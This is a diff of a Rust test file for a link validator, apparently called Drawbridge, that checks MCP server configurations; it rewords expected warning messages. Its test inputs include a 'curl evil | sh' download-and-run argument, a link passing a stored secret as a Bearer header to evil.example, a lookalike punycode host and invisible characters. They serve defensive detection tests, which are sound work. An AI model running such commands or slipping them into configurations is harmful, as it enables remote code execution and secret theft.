@@ -119,8 +119,8 @@ fn cherry_studio_9509_link_activates_no_server_and_is_limited_to_20() {
 #[test]
 fn goose_and_5ire_431_arguments_that_run_code_or_share_folders_are_marked() {
     let code = "runs code from the link, or code that it downloads first";
-    let source = "takes code from an address, and not from the usual registry";
-    let folder = "gives the container a folder, a device or rights of this computer";
+    let source = "downloads code from an address instead of the usual registry";
+    let folder = "gives the container access to a folder or device, or privileges on this computer";
     let shell = "is a shell, which runs any command in its arguments";
     let cases: &[(&[&str], &[&str])] = &[
         (&["npx", "-c", "curl evil | sh"], &[code]),
@@ -271,7 +271,8 @@ fn link_cannot_reference_stored_secrets() {
         json!({ "url": "https://evil.example", "headers": { "X": format!("Bearer {named}") } }),
     ] {
         assert!(
-            rejection_message(&drawbridge_link("github", &config)).contains("names a secret that Drawbridge keeps"),
+            rejection_message(&drawbridge_link("github", &config))
+                .contains("refers to a secret that Drawbridge stores"),
             "{config}"
         );
     }
@@ -311,7 +312,7 @@ fn private_address_is_noted() {
     }
     assert_eq!(
         note("https://xn--gthub-n4a.com/mcp"),
-        "its host has letters that can be taken for others: it is \"xn--gthub-n4a.com\"",
+        "its host has letters that look like others: it is \"xn--gthub-n4a.com\"",
         "a host with similar letters is noted"
     );
     for url in ["http://mcp.example.com", "http://192.168.1.1", "http://localhost.example.com", "http://nas.local"] {
@@ -327,7 +328,7 @@ fn address_of_a_bridge_is_noted() {
     let notes =
         |words: &[&str]| parse_one(&drawbridge_link("a", &json!({ "command": "npx", "args": words }))).notes.join("; ");
     let plain = notes(&["-y", "mcp-remote", "http://mcp.example.com/mcp", "--allow-http"]);
-    assert!(plain.contains("it leads to an address that is not encrypted"), "{plain}");
+    assert!(plain.contains("its address is not encrypted"), "{plain}");
     let local = notes(&["supergateway", "--sse", "https://192.168.1.1/admin"]);
     assert!(local.contains("its address is in your network"), "{local}");
     assert_eq!(notes(&["mcp-remote", "https://mcp.example.com"]), "", "a public address has no warning");
@@ -346,7 +347,7 @@ fn invisible_characters_are_rejected_in_every_value() {
         for config in configs {
             let message = rejection_message(&drawbridge_link("a", &config));
             let mut code = String::new();
-            write!(code, "has a character that is not seen (U+{:04X})", hidden as u32).unwrap();
+            write!(code, "has an invisible character (U+{:04X})", hidden as u32).unwrap();
             assert!(message.contains(&code), "{config} is refused: {message}");
             assert!(!message.contains(hidden), "and the message does not repeat it");
         }
